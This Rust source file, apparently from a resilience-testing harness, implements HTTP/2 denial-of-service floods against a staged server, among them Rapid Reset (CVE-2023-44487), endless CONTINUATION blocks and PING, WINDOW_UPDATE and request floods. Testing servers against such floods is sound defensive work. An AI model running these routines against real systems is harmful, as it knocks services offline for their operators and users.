//! Floods of HTTP/2 frames.

use std::time::Duration;

use super::{Attack, crowd};
use crate::{
    http2::{END_STREAM, Http2, encode, field, frame, stream},
    stage::{Ground, Stage},
};

/// 8 connections that open streams and reset them at once (CVE-2023-44487).
pub async fn rapid_resets(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(8, move |number| resets(ground.clone(), number))
}

async fn resets(ground: Ground, number: u32) {
    const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number), 65_535).await else { return };
    for batch in 0.. {
        let mut frames = Vec::new();
        for number in batch * 100..(batch + 1) * 100 {
            frames.extend(connection.get_frame(number, "/openapi.json", &[]));
            frames.extend(encode(frame::RST_STREAM, 0, stream(number), &CANCEL));
        }
        if connection.has_ended() || !connection.write(&frames).await {
            return;
        }
    }
}

/// 8 connections with a header block that does not end (CVE-2024-27316 and others).
pub async fn continuations(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(8, move |number| endless_block(ground.clone(), number))
}

async fn endless_block(ground: Ground, number: u32) {
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number), 65_535).await else { return };
    let block = connection.block("GET", "/healthz", &[]);
    if !connection.send(frame::HEADERS, END_STREAM, stream(0), &block).await {
        return;
    }
    let mut fields = Vec::new();
    for number in 0..200 {
        field(&mut fields, &format!("x-{number}"), &"v".repeat(60));
    }
    // The last frame of a block has the flag END_HEADERS; this one never comes.

    while !connection.has_ended() && connection.send(frame::CONTINUATION, 0, stream(0), &fields).await {}
}

/// 16 addresses, 4,000 connections that have had an answer and hold 45 KB of a header block that does not end.
pub async fn unfinished_blocks(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(4_000, move |number| unfinished_block(ground.clone(), number))
}

async fn unfinished_block(ground: Ground, number: u32) {
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number % 16), 65_535).await else { return };
    let block = connection.block("GET", "/healthz", &[]);
    let mut fields = Vec::new();
    field(&mut fields, "x-long", &"v".repeat(15_000));
    let mut begun = connection.get(0, "/healthz", &[]).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    begun = begun && connection.send(frame::HEADERS, END_STREAM, stream(1), &block).await;
    for _ in 0..3 {
        begun = begun && connection.send(frame::CONTINUATION, 0, stream(1), &fields).await;
    }
    while begun && !connection.has_ended() {
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// 8 connections that ask for answers to PING and SETTINGS as fast as they are taken.
pub async fn pings(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(8, move |number| control_frames(ground.clone(), number))
}

async fn control_frames(ground: Ground, number: u32) {
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number), 65_535).await else { return };
    let pair = [encode(frame::PING, 0, 0, &[1; 8]), encode(frame::SETTINGS, 0, 0, &[])].concat();
    let frames = pair.repeat(500);
    while !connection.has_ended() && connection.write(&frames).await {
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}

/// One address, 4 connections that open their window without an end.
pub async fn window_updates(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(4, move |_| grants(ground.clone()))
}

async fn grants(ground: Ground) {
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(0), 65_535).await else { return };
    let frames = encode(frame::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(5_000);
    while !connection.has_ended() && connection.write(&frames).await {}
}

/// One address, 4 connections with 30 requests at a time for a page that is not there.
pub async fn requests(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(4, move |_| turns(ground.clone()))
}

async fn turns(ground: Ground) {
    const AT_ONCE: u32 = 30;
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(0), 65_535).await else { return };
    for turn in 0.. {
        let first = turn * AT_ONCE;
        let frames: Vec<u8> =
            (first..first + AT_ONCE).flat_map(|number| connection.get_frame(number, "/no-such-page", &[])).collect();
        if connection.has_ended() || !connection.write(&frames).await {
            return;
        }
        while connection.answers() < first + AT_ONCE {
            if connection.has_ended() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
    }
}
